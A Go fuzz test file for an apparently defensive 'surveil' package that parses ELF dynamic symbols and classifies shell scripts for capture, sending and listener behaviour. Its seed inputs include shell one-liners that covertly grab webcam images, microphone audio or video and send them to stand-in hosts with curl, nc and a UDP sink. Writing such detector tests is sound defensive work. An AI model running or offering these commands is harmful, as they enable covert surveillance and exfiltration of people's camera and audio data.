package surveil

import (
	"bytes"
	"os"
	"testing"
)

func FuzzDynsyms(f *testing.F) {
	// A real program, when the machine has a small one: the fuzzer
	// mutates its tables.
	if b, err := os.ReadFile("/bin/true"); err == nil && len(b) < 64<<10 {
		f.Add(b)
	}
	f.Add([]byte("\x7fELF\x02\x01\x01\x00"))
	f.Add(bytes.Repeat([]byte("\x7fELF\x01\x01\x01\x00\xff"), 20))
	f.Fuzz(func(t *testing.T, data []byte) {
		d := ReadDynsyms(bytes.NewReader(data), int64(len(data)))
		if d != nil && (len(d.Imports) > maxSymbols || len(d.Libs) > maxLibs) {
			t.Fatalf("bounds exceeded: %d imports, %d libs", len(d.Imports), len(d.Libs))
		}
	})
}

func FuzzScript(f *testing.F) {
	f.Add([]byte(shebang + "F=/tmp/a.jpg\nfswebcam \"$F\"\ncurl -F \"i=@$F\" http://192.0.2.9/u\n"))
	f.Add([]byte("x=$(nc -u -l -p 1 -w 1); [ \"$x\" = M ] && arecord | nc 192.0.2.1 1\n"))
	f.Add([]byte("gst-launch-1.0 v4l2src ! jpegenc ! udpsink host=192.0.2.1 | socat - UDP:1:2\n((((\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, c := range parseScript(data) {
			if c.line < 0 {
				t.Fatalf("bad line %d", c.line)
			}
			_ = classifyCapture(c)
			_ = classifySend(c)
			_ = classifyListener(c)
		}
		_ = sameFile(string(data), "/tmp/*x")
		_ = fixedHost(string(data))
	})
}
